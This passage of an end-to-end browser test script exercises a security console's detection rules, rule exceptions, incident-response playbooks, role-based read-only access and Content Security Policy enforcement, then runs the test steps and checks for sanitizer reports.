  assert.deepEqual(listed.rules.map((x) => [x.id, x.source, x.file, x.tenant]), [[id, 'builtin', file, null]]);
  assert.deepEqual(listed.rules[0].tags, ['attack.discovery', 'attack.t1046']);
  const refused = await call('PATCH', `/api/v1/rules/${id}`, { enabled: false });
  assert.equal(refused.status, 409, refused.text);
  // an exception to it, from its row
  await row.getByRole('button', { name: `Exceptions of ${title}` }).click();
  const exForm = page.getByRole('form', { name: `Add an exception to ${title}` });
  await exForm.getByLabel('Field 1').fill('host.name');
  await exForm.getByLabel('Value 1').fill(`lab-scanner-${RUN_ID}`);
  await exForm.getByLabel('Reason').fill('the lab scanner');
  await exForm.getByRole('button', { name: 'Add exception' }).click();
  const exTable = page.getByRole('table', { name: `Exceptions of ${title}` });
  await exTable.getByRole('cell', { name: 'the lab scanner' }).waitFor();
  await exTable.getByText(`host.name = lab-scanner-${RUN_ID}`).waitFor();
  const exs = (await call('GET', `/api/v1/rules/${id}/exceptions`)).json.exceptions;
  assert.equal(exs.length, 1);
  assert.deepEqual(exs[0].conditions, { 'host.name': [`lab-scanner-${RUN_ID}`] });
  await shot('rules-builtin');
  assert.equal((await call('DELETE', `/api/v1/exceptions/${exs[0].id}`)).status, 200);
});

step('playbooks: create in the UI (server validation shown), list, edit the name, disable, read-only for tier1, delete', async () => {
  const call = await apiClient(stack.api, ADMIN.user, ADMIN.pass);
  await page.goto(stack.base + '/');
  await page.getByRole('navigation', { name: 'Main' }).getByRole('list', { name: 'Respond' })
    .getByRole('link', { name: 'Playbooks' }).click();
  await page.getByRole('heading', { name: 'Playbooks' }).waitFor();
  const name = `Ransomware containment ${RUN_ID}`;
  const form = page.getByRole('form', { name: 'New playbook' });
  await form.getByLabel('Name').fill(name);
  // without a trigger the server refuses: its message shows in the form
  await form.getByRole('button', { name: 'Create playbook' }).click();
  await form.getByRole('alert').filter({ hasText: 'trigger needs at least one member' }).waitFor();
  await form.getByLabel('Incident type').fill('ransomware');
  await form.getByLabel('Minimum severity').selectOption('high');
  await form.getByLabel(/^Tasks/).fill('Isolate the host\nCollect the ransom note');
  await form.getByRole('button', { name: 'Add step' }).click();
  await form.getByRole('group', { name: 'Step 1' }).getByLabel('Action').selectOption('isolate');
  await form.getByRole('button', { name: 'Create playbook' }).click();
  const table = page.getByRole('table', { name: 'Playbooks' });
  const row = table.getByRole('row').filter({ hasText: name });
  await row.getByRole('cell', { name: 'ransomware', exact: true }).waitFor();
  await row.getByText('Collect the ransom note').waitFor();
  await row.getByRole('cell', { name: 'isolate', exact: true }).waitFor();
  let pb = (await call('GET', '/api/v1/playbooks')).json.playbooks.find((x) => x.name === name);
  assert.ok(pb, 'the playbook is stored');
  assert.deepEqual(pb.trigger, { incident_type: 'ransomware', min_severity: 'high' });
  assert.deepEqual(pb.tasks, ['Isolate the host', 'Collect the ransom note']);
  assert.deepEqual(pb.steps.map((x) => x.type), ['isolate']);
  assert.equal(pb.enabled, true);
  await shot('playbooks');
  // edit its name: the server has the new one, the rest unchanged
  const renamed = `${name} v2`;
  await row.getByRole('button', { name: `Edit ${name}` }).click();
  const edit = page.getByRole('form', { name: `Edit playbook ${name}` });
  await edit.getByLabel('Name').fill(renamed);
  await edit.getByRole('button', { name: 'Save playbook' }).click();
  const row2 = table.getByRole('row').filter({ hasText: renamed });
  await row2.waitFor();
  await page.getByRole('form', { name: 'New playbook' }).waitFor();
  let now = (await call('GET', '/api/v1/playbooks')).json.playbooks.find((x) => x.id === pb.id);
  assert.equal(now.name, renamed);
  assert.deepEqual([now.trigger, now.tasks, now.steps], [pb.trigger, pb.tasks, pb.steps]);
  // disable it
  await row2.getByRole('checkbox', { name: `Enabled: ${renamed}` }).click();
  await row2.getByRole('checkbox', { name: `Enabled: ${renamed}`, checked: false }).waitFor();
  now = (await call('GET', '/api/v1/playbooks')).json.playbooks.find((x) => x.id === pb.id);
  assert.equal(now.enabled, false);
  // a tier1 analyst (no rules:write) sees it read-only
  const t1 = { user: `pb-tier1-${RUN_ID}`, pass: 'pb-tier1-password' };
  const u = await call('POST', '/api/v1/users', { username: t1.user, password: t1.pass, role: 'tier1', tenant: 'default' });
  assert.equal(u.status, 201, u.text);
  const p1 = await loginAs(t1);
  await p1.goto(stack.base + '/playbooks');
  const row1 = p1.getByRole('table', { name: 'Playbooks' }).getByRole('row').filter({ hasText: renamed });
  await row1.waitFor();
  assert.ok(await row1.getByRole('checkbox', { name: `Enabled: ${renamed}` }).isDisabled());
  assert.equal(await p1.getByRole('button', { name: `Edit ${renamed}` }).count(), 0);
  assert.equal(await p1.getByRole('form', { name: 'New playbook' }).count(), 0);
  await p1.context().close();
  // delete, with a confirmation
  await row2.getByRole('button', { name: `Delete ${renamed}` }).click();
  await row2.getByRole('button', { name: 'Confirm delete' }).click();
  await row2.waitFor({ state: 'detached' });
  assert.ok(!(await call('GET', '/api/v1/playbooks')).json.playbooks.some((x) => x.id === pb.id));
});

step('served with the strict CSP and no violation or script error happened', async () => {
  const r = await request(stack.base, 'GET', '/search?q=x');
  assert.equal(r.status, 200);
  assert.match(r.headers['content-type'], /^text\/html/);
  assert.match(r.headers['content-security-policy'], /default-src 'self'/);
  assert.ok(!/<script(?![^>]*\bsrc=)[^>]*>/.test(r.text), 'no inline script in index.html');
  assert.ok(!/<style/.test(r.text), 'no inline style in index.html');
  assert.deepEqual(cspViolations, []);
  assert.deepEqual(pageErrors, []);
  // control: the detector does see a violation (an inline style attribute is refused)
  await page.evaluate(() => { document.body.insertAdjacentHTML('beforeend', '<div style="color:red">x</div>'); });
  await page.waitForTimeout(300);
  assert.equal(cspViolations.length, 1, 'the CSP detector works');
});

// ---------------------------------------------------------------------------------------------

async function main() {
  fs.mkdirSync(SHOTS, { recursive: true });
  let passed = 0;
  let failed = 0;
  const only = process.env.CONSOLE_TEST_ONLY;
  try {
    stack = await startStack();
    browser = await chromium.launch({
      executablePath: CHROMIUM,
      headless: true,
      args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
        '--disable-component-update', '--disable-sync'],
    });
    context = await browser.newContext({ ignoreHTTPSErrors: true, viewport: { width: 1400, height: 900 }, acceptDownloads: true });
    page = await newPage(context);
  } catch (e) {
    console.error(`console: cannot start: ${e.stack ?? e}`);
    if (stack) await stack.stop();
    console.log(`console: 0 passed, ${steps.length} failed`);
    process.exit(1);
  }
  for (const s of steps) {
    if (only && !new RegExp(only).test(s.name) && steps.indexOf(s) > 0) continue;
    const t0 = Date.now();
    try {
      await s.fn();
      passed++;
      console.log(`ok   ${s.name} (${Date.now() - t0} ms)`);
    } catch (e) {
      failed++;
      console.log(`FAIL ${s.name}\n     ${String(e.stack ?? e).split('\n').slice(0, 6).join('\n     ')}`);
      try { await shot(`FAIL-${steps.indexOf(s)}`); } catch { /* page gone */ }
    }
  }
  await browser.close();
  if (failed && process.env.CONSOLE_TEST_VERBOSE) console.log(stack.log());
  await stack.stop();
  // a sanitizer build of vigild reports memory errors and leaks on its way out
  if (/AddressSanitizer|LeakSanitizer|runtime error:/.test(stack.log())) {
    failed++;
    console.log(`FAIL vigild reported sanitizer errors\n${stack.log().slice(-4000)}`);
  } else {
    passed++;
    console.log('ok   vigild exited without sanitizer reports');
  }
  console.log(`console: ${passed} passed, ${failed} failed`);
  process.exit(failed ? 1 : 0);
}

main();
